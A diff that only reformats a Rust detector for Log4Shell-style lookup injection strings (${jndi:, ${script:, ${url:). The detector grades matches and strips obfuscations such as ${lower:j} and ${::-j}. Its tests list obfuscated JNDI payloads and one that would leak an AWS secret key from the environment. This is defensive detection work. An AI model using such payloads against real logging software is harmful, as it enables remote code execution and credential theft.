@@ -70,7 +70,10 @@ fn lookup(text: &[u8]) -> Option<(Grade, Vec<u8>, &'static str)> {
         (b"${script:", Grade::Strong, "a script that is run"),
         (b"${url:", Grade::Likely, "a page from elsewhere"),
     ];
-    let (start, grade, what) = starts.into_iter().filter_map(|(start, grade, what)| Some((memmem::find(&text, start)?, grade, what))).max_by_key(|(start, grade, _)| (*grade, *start))?;
+    let (start, grade, what) = starts
+        .into_iter()
+        .filter_map(|(start, grade, what)| Some((memmem::find(&text, start)?, grade, what)))
+        .max_by_key(|(start, grade, _)| (*grade, *start))?;
     Some((grade, text[start..].to_vec(), what))
 }
 
@@ -83,7 +86,10 @@ fn resolve_one(text: &[u8]) -> Option<Vec<u8>> {
         let end = memchr::memchr2(b'}', b'$', inner)?;
         if inner[end] == b'}' {
             let body = &inner[..end];
-            let plain = body.strip_prefix(b"lower:").or_else(|| body.strip_prefix(b"upper:")).or_else(|| memmem::find(body, b":-").map(|at| &body[at + 2..]));
+            let plain = body
+                .strip_prefix(b"lower:")
+                .or_else(|| body.strip_prefix(b"upper:"))
+                .or_else(|| memmem::find(body, b":-").map(|at| &body[at + 2..]));
             if let Some(plain) = plain {
                 return Some([&text[..start], plain, &inner[end + 1..]].concat());
             }
@@ -99,7 +105,13 @@ mod tests {
 
     #[test]
     fn hidden_lookups_are_resolved() {
-        for text in ["${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:x}", "${${env:nope:-j}ndi:x}", "a ${jndi:${lower:l}dap://x}"] {
+        for text in [
+            "${jndi:ldap://x/a}",
+            "${${lower:j}ndi:ldap://x}",
+            "${${::-j}${::-n}${::-d}${::-i}:x}",
+            "${${env:nope:-j}ndi:x}",
+            "a ${jndi:${lower:l}dap://x}",
+        ] {
             assert_eq!(lookup(text.as_bytes()).map(|(grade, ..)| grade), Some(Grade::Strong), "{text}");
         }
         let (_, seen, _) = lookup(b"${jndi:ldap://x/${env:aws_secret_access_key}}").unwrap();
